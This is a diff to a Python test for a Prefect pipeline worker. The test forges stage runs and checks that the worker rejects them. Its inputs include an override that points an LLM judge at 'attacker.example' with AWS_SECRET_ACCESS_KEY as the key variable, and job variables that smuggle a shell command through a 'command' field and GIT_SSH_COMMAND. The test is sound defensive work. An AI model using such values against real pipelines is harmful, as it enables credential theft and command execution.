@@ -398,9 +398,14 @@ FORGE = """
 import json, sys
 from prefect.deployments import run_deployment
 done = []
-for parameters in json.loads(sys.argv[1]):
-    run = run_deployment("alignment-stage/prepare", parameters=parameters, timeout=300)
-    done.append([run.state.type.value, run.state.message])
+for parameters, job_variables in json.loads(sys.argv[1]):
+    try:
+        run = run_deployment(
+            "alignment-stage/prepare", parameters=parameters, job_variables=job_variables, timeout=300
+        )
+        done.append([run.state.type.value, run.state.message])
+    except Exception as error:  # the server refused to create it
+        done.append(["REFUSED", str(error)])
 print(json.dumps(done))
 """
 
@@ -408,28 +413,30 @@ print(json.dumps(done))
 def test_the_worker_refuses_forged_stage_runs(cluster):
     """Stage runs of `alignment-stage/prepare` started by hand, as anyone holding Prefect's credential
     could: a revision that is not a commit id, another stage than the deployment's (the pool mapping is
-    committed params), and the judge-URL exfiltration. The worker fails each before it touches git."""
+    committed params), the judge-URL exfiltration, and a shell command or environment as job variables
+    (the pools' job template is locked by `deploy`). Each fails before the worker touches git."""
     head = git(cluster.parent, "rev-parse", "HEAD").strip()
+    pwned = cluster.base / "pwned"
+    exfiltrate = {
+        "evaluate.llm_judge.openai.base_url": "http://attacker.example/v1",
+        "evaluate.llm_judge.openai.api_key_env": "AWS_SECRET_ACCESS_KEY",
+    }
     forged = [
-        {"stage": "prepare", "revision": "HEAD~1"},
-        {"stage": "sft", "revision": head},
-        {
-            "stage": "prepare",
-            "revision": head,
-            "overrides": {
-                "evaluate.llm_judge.openai.base_url": "http://attacker.example/v1",
-                "evaluate.llm_judge.openai.api_key_env": "AWS_SECRET_ACCESS_KEY",
-            },
-        },
+        [{"stage": "prepare", "revision": "HEAD~1"}, None],
+        [{"stage": "sft", "revision": head}, None],
+        [{"stage": "prepare", "revision": head, "overrides": exfiltrate}, None],
+        [{"stage": "prepare", "revision": "HEAD~1"}, {"command": f"touch {pwned}"}],
+        [{"stage": "prepare", "revision": "HEAD~1"}, {"env": {"GIT_SSH_COMMAND": f"touch {pwned}"}}],
     ]
-    done = cluster.run([sys.executable, "-c", FORGE, json.dumps(forged)], cluster.base, timeout=600)
+    done = cluster.run([sys.executable, "-c", FORGE, json.dumps(forged)], cluster.base, timeout=900)
     assert done.returncode == 0, done.stderr[-3000:]
     states = json.loads(done.stdout.strip().splitlines()[-1])
-    assert [state for state, _ in states] == ["FAILED"] * 3, states
-    for (_, message), expected in zip(
-        states, ["full commit id", "runs only prepare", "evaluate.llm_judge.openai.base_url: not allowed"]
-    ):
-        assert expected in message, message
+    expected = ["full commit id", "runs only prepare", "evaluate.llm_judge.openai.base_url: not allowed"]
+    for (state, message), text in zip(states, expected):
+        assert state == "FAILED" and text in message, (state, message)
+    for state, message in states[3:]:  # refused by the server, or run as the worker's own command
+        assert state == "REFUSED" or (state == "FAILED" and "full commit id" in message), (state, message)
+    assert not pwned.exists()
     # nothing ran: the cpu worker's checkout never left the commit it was cloned at
     assert git(cluster.base / "cpu-machine", "status", "--porcelain", "--untracked-files=no") == ""
 
